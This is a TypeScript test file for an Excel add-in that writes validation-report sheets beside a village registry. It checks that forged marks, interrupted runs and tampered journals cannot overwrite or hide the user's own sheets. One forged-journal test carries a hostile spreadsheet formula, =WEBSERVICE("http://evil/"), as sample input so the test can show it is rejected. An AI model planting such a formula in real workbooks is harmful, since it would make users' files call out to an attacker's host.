import { GENERATED_SHEETS, type GeneratedKind } from '../../src/core/registry';
import {
  finishUnfinished,
  readUnfinished,
  readWorkbook,
  takeBackUnfinished,
  writeGenerated,
} from '../../src/excel';
import { openWorkbook, saveWorkbook, type Workbook } from '../../src/host';
import { bookOf, laidOut, namesOf, openExcel, reportOf, sheetOf } from './embedded';

const VILLAGES = {
  贫困村名册: [
    ['乡镇', '村名', '村编码', '户数', '人口数'],
    ['韩城镇', '官东村', '410327100201', 310, 1204],
    ['韩城镇', '官西村', '410327100202', 280, 1100],
  ],
} as const;
const NOTES = { 我的备注: [['记事'], ['下周开会']] } as const;
const MARK = '_zhucun_sheet';
const NOBODY_WROTE = '我自己的话';

const report = () => laidOut([reportOf([['甲', 1]])]);

async function write(): Promise<string[]> {
  const { outlines, source } = report();
  return (await writeGenerated(outlines, source)).map(({ sheet }) => sheet);
}

function forge(workbook: Workbook, sheet: string, text: string): void {
  sheetOf(workbook, sheet).names.set(MARK, {
    name: MARK,
    comment: '',
    formula: `="${text}"`,
    visible: false,
  });
}

async function sheetsRead(): Promise<string[]> {
  const read: string[] = [];
  await readWorkbook({
    open: () => undefined,
    addSheet: ({ name }) => {
      read.push(name);
    },
  });
  return read;
}

/** What a file says that was made to look as if a sheet had been written here. */
function claim(workbook: Workbook, name: string, from: Workbook): void {
  const { id } = sheetOf(workbook, name);
  const entry = [...from.settings].find(([key]) => key.startsWith('zhucun.sheet.'));
  const text = String(entry?.[1]).replace(/\{[^}]*\}/, id);
  workbook.settings.set(`zhucun.sheet.${id}`, text);
  forge(workbook, name, text);
}

describe('a sheet that is marked as one of ours', () => {
  const kind: GeneratedKind = 'validationReport';

  it('by its own hidden name alone is left, and the report is written beside it', async () => {
    const workbook = bookOf({ ...VILLAGES, [GENERATED_SHEETS[kind].name]: [[NOBODY_WROTE]] });
    forge(workbook, '校验报告', `${kind}|${sheetOf(workbook, '校验报告').id}|2014`);
    openExcel(workbook);
    expect(await write()).toEqual(['校验报告 (2)']);
    expect(sheetOf(workbook, '校验报告').cells.get(0, 0)).toBe(NOBODY_WROTE);
    expect(await write()).toEqual(['校验报告 (2)']);
  });

  it('with the entry of another workbook is left', async () => {
    const other = bookOf(NOTES);
    openExcel(other);
    await write();
    const workbook = bookOf({ ...VILLAGES, ...NOTES });
    claim(workbook, '我的备注', other);
    openExcel(workbook);
    await write();
    expect(sheetOf(workbook, '我的备注').cells.get(1, 0)).toBe('下周开会');
  });

  it.each([
    ['a registry table', '贫困村名册'],
    ['settings', '参数'],
  ])('whatever vouches for it stays where it holds %s, and is read', async (_, name) => {
    const workbook = bookOf({ ...VILLAGES, ...NOTES, 参数: [['考核年度', 2014]] });
    openExcel(workbook);
    await write();
    const entry = [...workbook.settings].find(([key]) => key.startsWith('zhucun.sheet.'));
    const written = sheetOf(workbook, '校验报告');
    // The sheet takes the very place of the one that was written.
    const kept = sheetOf(workbook, name);
    workbook.sheets.splice(workbook.sheets.indexOf(written), 1);
    Object.assign(kept, { id: written.id });
    forge(workbook, name, String(entry?.[1]));
    expect(await sheetsRead()).toEqual(['贫困村名册', '我的备注', '参数']);
    await write();
    expect(namesOf(workbook)).toEqual(['贫困村名册', '我的备注', '参数', '校验报告']);
  });

  it.each(['draft', 'draft|1-2-3-4'])(
    'as a draft (%s) that this workbook did not begin is left and read',
    async (mark) => {
      const workbook = bookOf({ ...VILLAGES, ...NOTES });
      forge(workbook, '贫困村名册', mark);
      forge(workbook, '我的备注', mark);
      sheetOf(workbook, '我的备注').visibility = 'Hidden';
      openExcel(workbook);
      expect(await sheetsRead()).toEqual(['贫困村名册', '我的备注']);
      await write();
      expect(namesOf(workbook)).toEqual(['贫困村名册', '我的备注', '校验报告']);
    },
  );

  it('is known again in the saved file, and no draft of it is left', async () => {
    const workbook = bookOf(VILLAGES);
    openExcel(workbook);
    await write();
    const opened = await openWorkbook(await saveWorkbook(workbook), 'book.xlsx');
    openExcel(opened);
    expect(await write()).toEqual(['校验报告']);
    expect([...opened.settings.keys()].filter((key) => key.startsWith('zhucun.draft.'))).toEqual([]);
    expect([...opened.settings.keys()].filter((key) => key.startsWith('zhucun.sheet.'))).toHaveLength(1);
  });
});

it('a draft that a broken-off run left in this workbook is not read, and is taken back', async () => {
  const workbook = bookOf(VILLAGES);
  const host = openExcel(workbook);
  const send = host.bridge.sendMessageToHost.bind(host.bridge);
  let isGone = false;
  const { outlines, source } = report();
  const stopped = writeGenerated(outlines, {
    cells: () => {
      // The pane is closed: nothing more is sent.
      isGone = true;
      throw new Error('gone');
    },
  });
  host.bridge.sendMessageToHost = (text) => {
    if (isGone) throw new Error('gone');
    send(text);
  };
  await expect(stopped).rejects.toThrow();
  host.bridge.sendMessageToHost = send;
  openExcel(workbook);
  expect(namesOf(workbook)).toHaveLength(3);
  expect(await sheetsRead()).toEqual(['贫困村名册', '_zhucun_journal']);
  expect(await readUnfinished()).toMatchObject({ operation: 'generated', sheets: ['校验报告'] });
  await expect(writeGenerated(outlines, source)).rejects.toMatchObject({ code: 'Unfinished' });
  await takeBackUnfinished();
  expect(namesOf(workbook)).toEqual(['贫困村名册']);
  await writeGenerated(outlines, source);
  expect(namesOf(workbook)).toEqual(['贫困村名册', '校验报告']);
});

it('a swap that was broken off while earlier versions were being cleared away is finished', async () => {
  const workbook = bookOf(VILLAGES);
  openExcel(workbook);
  await write();
  const host = openExcel(workbook);
  const send = host.bridge.sendMessageToHost.bind(host.bridge);
  let isGone = false;
  host.bridge.sendMessageToHost = (text) => {
    if (isGone) throw new Error('gone');
    isGone = text.includes('decided');
    send(isGone ? withoutItsEnd(text) : text);
  };
  await expect(write()).rejects.toMatchObject({ code: 'Interrupted' });
  openExcel(workbook);
  const isShelved = (name: string) => name.startsWith('_zhucun_old_');
  expect(namesOf(workbook).filter(isShelved)).toHaveLength(1);
  expect(await readUnfinished()).toMatchObject({ sheets: ['校验报告'], isDecided: true });
  expect((await sheetsRead()).filter(isShelved)).toEqual([]);
  await expect(takeBackUnfinished()).rejects.toThrow();
  await finishUnfinished();
  expect(namesOf(workbook)).toEqual(['贫困村名册', '校验报告']);
  expect(await write()).toEqual(['校验报告']);
  expect(namesOf(workbook)).toEqual(['贫困村名册', '校验报告']);
});

/** A request that Excel stops before the last things that go. */
function withoutItsEnd(text: string): string {
  const request = JSON.parse(text) as { message: { body: unknown } };
  const { body } = request.message;
  const batch = (typeof body === 'string' ? JSON.parse(body) : body) as { Actions: unknown[] };
  batch.Actions.splice(-4, Infinity, {
    Id: 0,
    ActionType: 3,
    Name: 'Fail',
    ObjectPathId: 987_654_321,
  });
  request.message.body = typeof body === 'string' ? JSON.stringify(batch) : batch;
  return JSON.stringify(request);
}

it('what another session has begun at the same moment is left to it', async () => {
  const workbook = bookOf(VILLAGES);
  const host = openExcel(workbook);
  const { outlines, source } = report();
  const send = host.bridge.sendMessageToHost.bind(host.bridge);
  let isBegun = false;
  host.bridge.sendMessageToHost = (text) => {
    if (text.includes('_zhucun_new_1') && !isBegun) {
      isBegun = true;
      workbook
        .addSheet('_zhucun_journal')
        .cells.set(0, 0, '{"kind":"begin","operation":"fixes","at":"","by":"1"}');
      workbook.addSheet('_zhucun_new_1').cells.set(0, 0, NOBODY_WROTE);
    }
    send(text);
  };
  await expect(writeGenerated(outlines, source)).rejects.toMatchObject({ code: 'Unfinished' });
  expect(namesOf(workbook)).toEqual(['贫困村名册', '_zhucun_journal', '_zhucun_new_1']);
  expect(await readUnfinished()).toMatchObject({ operation: 'fixes', isDecided: false });
});

it.each([
  ['undone', []],
  ['finished', [{ kind: 'decided', sheets: ['_zhucun_old_1'] }]],
] as const)('a forged journal that is %s sets no sheet aside that has not our name', async (_, decided) => {
  const workbook = bookOf({ ...VILLAGES, ...NOTES });
  openExcel(workbook);
  const journal = workbook.addSheet('_zhucun_journal');
  const forged = [
    { kind: 'begin', operation: 'generated', at: '' },
    { kind: 'made', sheet: '_zhucun_new_1', name: '贫困村名册' },
    { kind: 'named', sheet: '_zhucun_new_1', name: '贫困村名册' },
    { kind: 'named', sheet: workbook.findSheet('我的备注')?.id, name: '我的备注' },
    { kind: 'decided', sheets: ['贫困村名册'] },
    { kind: 'shelved', sheet: '贫困村名册', name: '别的', visibility: 'Hidden' },
    { kind: 'shelved', sheet: '_zhucun_old_1', name: '我的备注', visibility: 'Hidden' },
    { kind: 'shelvedTable', table: 'villages', name: '别的' },
    { kind: 'setting', key: 'another.setting', from: 'x' },
    {
      kind: 'sealed',
      sheet: '贫困村名册',
      mark: '=WEBSERVICE("http://evil/")',
      isProtected: false,
      footer: '',
      pages: 'Default',
    },
    ...decided,
  ];
  forged.forEach((entry, row) => journal.cells.set(row, 0, JSON.stringify(entry)));
  journal.visibility = 'VeryHidden';
  const end = decided.length > 0 ? finishUnfinished : takeBackUnfinished;
  await end();
  expect(namesOf(workbook)).toEqual(['贫困村名册', '我的备注']);
  expect(workbook.sheets.map(({ visibility, names }) => [visibility, names.size])).toEqual([
    ['Visible', 0],
    ['Visible', 0],
  ]);
  expect([...workbook.settings.keys()]).toEqual([]);
});

it('a name that a table of another sheet has is left to it', async () => {
  const workbook = bookOf({ ...VILLAGES, ...NOTES });
  const host = openExcel(workbook);
  await Excel.run(async (context) => {
    const table = context.workbook.worksheets.getItem('我的备注').tables.add('A1:A2', true);
    table.name = 'ZHUCUN_findings';
    await context.sync();
  });
  await write();
  await write();
  const tables = () => sheetOf(host.workbook, '校验报告').tables.map(({ name }) => name);
  expect(tables()).toEqual(['zhucun_findings_2']);
});
